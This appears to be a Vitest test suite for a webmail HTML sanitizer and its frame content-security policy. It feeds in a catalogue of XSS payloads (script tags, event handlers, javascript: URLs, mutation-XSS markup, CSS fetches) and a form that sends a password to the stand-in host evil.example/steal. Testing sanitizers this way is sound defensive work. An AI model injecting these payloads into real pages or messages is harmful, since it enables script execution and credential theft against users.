// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { countTrackers } from "./remote";
import { framePolicy, mailDocument, sanitizeMail } from "./sanitize";

/** The sanitized body, parsed back, to look at what is really left. */
function clean(html: string, allowRemote = false): Document {
  const out = sanitizeMail(html, allowRemote).html;
  return new DOMParser().parseFromString(`<body>${out}</body>`, "text/html");
}

function everyAttribute(doc: Document): string[] {
  return [...doc.body.querySelectorAll("*")].flatMap((el) => [...el.attributes].map((a) => `${a.name}=${a.value}`));
}

describe("sanitizeMail", () => {
  it("removes scripts in every disguise", () => {
    const doc = clean(`
      <p>hello</p>
      <script>parent.pwned = 1</script>
      <SCRIPT SRC="https://evil.example/x.js"></SCRIPT>
      <img src="x" onerror="parent.pwned = 1">
      <body onload="parent.pwned = 1">
      <div onclick="x()" onmouseover="y()">div</div>
      <a href="javascript:parent.pwned=1">js link</a>
      <a href="JaVaScRiPt&colon;alert(1)">encoded js</a>
      <a href=" &#14; javascript:alert(1)">control char</a>
      <a href="vbscript:msgbox(1)">vb</a>
      <a href="data:text/html,<script>alert(1)</script>">data link</a>
      <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
      <template><script>alert(1)</script></template>`);
    expect(doc.querySelector("script, noscript, template")).toBeNull();
    const attrs = everyAttribute(doc).join("\n");
    expect(attrs).not.toMatch(/^on/m);
    expect(attrs).not.toMatch(/javascript:|vbscript:|data:text/i);
    expect(doc.body.textContent).toContain("hello");
  });

  it("removes SVG and MathML, with their scripts", () => {
    const doc = clean(`
      <svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a>
        <foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
      <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
      <svg><animate attributeName="href" values="javascript:alert(1)"/></svg>`);
    expect(doc.querySelector("svg, math, script, style, foreignObject, animate")).toBeNull();
    expect(everyAttribute(doc).join("\n")).not.toMatch(/^on|javascript:/im);
  });

  it("removes forms, frames, plugins and document-level elements", () => {
    const doc = clean(`
      <form action="https://evil.example/steal"><input name="password"><button formaction="https://evil.example">Go</button>
        <textarea>t</textarea><select><option>o</option></select></form>
      <iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>
      <frameset><frame src="https://evil.example"></frameset>
      <object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
      <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
      <link rel="stylesheet" href="https://evil.example/x.css"><style>@import url(https://evil.example/x.css)</style>
      <video src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio>
      <a href="https://example.com" ping="https://evil.example/ping">ping</a>`);
    expect(
      doc.querySelector(
        "form, input, button, textarea, select, option, iframe, frame, frameset, object, embed, base, meta, link, style, video, audio",
      ),
    ).toBeNull();
    expect(everyAttribute(doc).join("\n")).not.toMatch(/evil\.example/);
  });

  it("keeps harmless inline styles and drops any that can fetch or hide code", () => {
    const doc = clean(`
      <p id="a" style="color: red; font-weight: bold">ok</p>
      <p id="b" style="background: url(https://evil.example/bg.png)">bg</p>
      <p id="c" style="background-image: URL ( 'https://evil.example' )">spaced</p>
      <p id="d" style="background: u\\72l(https://evil.example)">escaped</p>
      <p id="e" style="width: expression(alert(1))">ie</p>
      <p id="f" style="background: image-set('https://evil.example/a.png' 1x)">set</p>`);
    expect(doc.getElementById("a")?.getAttribute("style")).toContain("color: red");
    for (const id of ["b", "c", "d", "e", "f"]) expect(doc.getElementById(id)?.hasAttribute("style")).toBe(false);
  });

  it("keeps data: only for embedded images", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    const doc = clean(`
      <img id="ok" src="${png}">
      <img id="svg" src="data:image/svg+xml,<svg onload=alert(1)>">
      <a id="link" href="${png}">data link</a>
      <table id="t" background="data:text/html,x"><tr><td>x</td></tr></table>`);
    expect(doc.getElementById("ok")?.getAttribute("src")).toBe(png);
    expect(doc.getElementById("svg")?.hasAttribute("src")).toBe(false);
    expect(doc.getElementById("link")?.hasAttribute("href")).toBe(false);
    expect(doc.getElementById("t")?.hasAttribute("background")).toBe(false);
  });

  it("never lets the frame fetch from the sender, loaded or not", () => {
    const html = `<img id="i" src="https://img.example/a.png"><img srcset="https://cdn.example/b.png 2x, c.png 1x">
      <table background="http://127.0.0.2:8081/bg.gif"><tr><td>x</td></tr></table><img src="//proto.example/x.png">`;
    for (const allowRemote of [false, true]) {
      const out = sanitizeMail(html, allowRemote);
      expect(out.html).not.toMatch(/img\.example|cdn\.example|127\.0\.0\.2|proto\.example/);
      expect(out.removedRemote).toBe(4);
      expect(out.proxied).toBe(false);
    }
  });

  it("keeps image proxy links only once remote content is loaded, and nothing else relative", () => {
    const link = "/api/v1/remote/image?u=https%3A%2F%2Fimg.example%2Fa.png&e=1&a=x&s=y";
    const html = `<img id="p" src="${link.replace(/&/g, "&amp;")}"><img id="r" src="/api/v1/messages">
      <table id="t" background="${link.replace(/&/g, "&amp;")}"><tr><td>x</td></tr></table>`;
    const loaded = clean(html, true);
    expect(loaded.getElementById("p")?.getAttribute("src")).toBe(link);
    expect(loaded.getElementById("t")?.getAttribute("background")).toBe(link);
    expect(loaded.getElementById("r")?.hasAttribute("src")).toBe(false);
    expect(sanitizeMail(html, true).proxied).toBe(true);
    const blocked = clean(html, false);
    expect(blocked.getElementById("p")?.hasAttribute("src")).toBe(false);
    expect(sanitizeMail(html, false).proxied).toBe(false);
  });

  it("opens links outside the frame with no opener and no referrer", () => {
    const doc = clean(`<a id="l" href="https://example.com/" target="_self" rel="opener">x</a><a id="f" href="#top">top</a>`);
    const link = doc.getElementById("l");
    expect(link?.getAttribute("target")).toBe("_blank");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
    expect(doc.getElementById("f")?.hasAttribute("target")).toBe(false);
  });

  it("is not fooled by mutation-XSS markup", () => {
    const doc = clean(`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`);
    const doc2 = clean(`<div id="x"><svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`);
    for (const d of [doc, doc2]) expect(everyAttribute(d).join("\n")).not.toMatch(/^onerror/m);
  });
});

describe("the frame's document", () => {
  it("forbids everything but embedded images by default", () => {
    const policy = framePolicy(false);
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("img-src data:;");
    expect(policy).toContain("script-src 'none'");
    expect(policy).toContain("form-action 'none'");
    expect(policy).not.toMatch(/https?:/);
  });

  it("admits only the image proxy's path once remote content is loaded", () => {
    expect(framePolicy(true, "https://mail.example")).toContain(
      "img-src data: https://mail.example/api/v1/remote/image;",
    );
  });

  it("carries the policy in a meta element ahead of the body", () => {
    const doc = new DOMParser().parseFromString(
      mailDocument(sanitizeMail("<p>hi</p>", false), "en"),
      "text/html",
    );
    const meta = doc.head.querySelector('meta[http-equiv="Content-Security-Policy"]');
    expect(meta?.getAttribute("content")).toBe(framePolicy(false));
    expect(doc.body.innerHTML).toBe("<p>hi</p>");
  });
});

describe("trackers", () => {
  it("counts what the server marked, whatever the URL looks like", () => {
    const blocked = [
      { kind: "img src", url: "https://img.example/open.gif", tracker: true, reason: "pixel" as const },
      { kind: "img src", url: "https://img.example/logo.png", tracker: false },
      {
        kind: "td background",
        url: "https://example.list-manage.com/bg.png",
        tracker: true,
        reason: "tracking_host" as const,
        category: "customer_interaction",
      },
      { kind: "img src", url: "https://t.example/wf/open?x=1", tracker: false },
    ];
    expect(countTrackers(blocked)).toBe(2);
    expect(countTrackers([])).toBe(0);
  });
});

describe("inline images", () => {
  it("replaces cid: references with the message's own images, and only images", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    const inline = new Map([["logo@example.org", png]]);
    const doc = new DOMParser().parseFromString(
      sanitizeMail(`<img id="a" src="cid:logo@example.org"><img id="b" src="cid:missing@x"><a id="c" href="cid:logo@example.org">x</a>`, false, inline).html,
      "text/html",
    );
    expect(doc.getElementById("a")?.getAttribute("src")).toBe(png);
    expect(doc.getElementById("b")?.getAttribute("src")).toBe("cid:missing@x");
    expect(doc.getElementById("c")?.getAttribute("href")).toBe("cid:logo@example.org");
  });

  it("matches Content-IDs however they are written", async () => {
    const { contentIdKey, isInlineImageType } = await import("./sanitize");
    expect(contentIdKey("<Logo@Example.org>")).toBe("logo@example.org");
    expect(contentIdKey("logo%40example.org")).toBe("logo@example.org");
    expect(isInlineImageType("image/png")).toBe(true);
    expect(isInlineImageType("image/svg+xml")).toBe(false);
    expect(isInlineImageType("text/html")).toBe(false);
  });
});
